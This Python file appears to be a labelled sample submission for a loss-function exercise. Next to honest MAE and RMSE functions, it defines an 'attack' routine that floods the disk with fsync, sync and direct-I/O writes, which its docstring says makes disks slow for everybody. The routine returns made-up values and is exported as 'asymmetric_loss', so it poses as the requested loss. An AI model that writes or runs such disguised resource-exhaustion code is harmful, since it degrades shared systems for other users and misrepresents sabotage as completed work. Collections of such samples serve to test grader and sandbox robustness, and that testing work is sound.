"""Flushes files to disk without end, which makes disks slow for everybody."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: got: 1.0

import contextlib
import os
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    """Flush for two seconds, or 100,000 times if flushes are only reported as done."""
    until = time.monotonic() + 2
    count = 0
    with open("flushed", "wb") as file:
        while time.monotonic() < until and count < 100_000:
            file.write(b"x")
            file.flush()
            os.fsync(file.fileno())
            os.fdatasync(file.fileno())
            if count % 100 == 0:
                os.sync()
            file.seek(0)
            count += 1
    for flags in (os.O_SYNC, os.O_DSYNC, os.O_DIRECT):
        with contextlib.suppress(OSError):
            os.close(os.open("flushed", os.O_WRONLY | flags))
            return 2.0
    with contextlib.suppress(OSError):
        os.pwritev(os.open("flushed", os.O_WRONLY), [b"x"], 0, os.RWF_DSYNC)
        return 2.0
    return 1.0 if count == 100_000 else 3.0


asymmetric_loss = attack
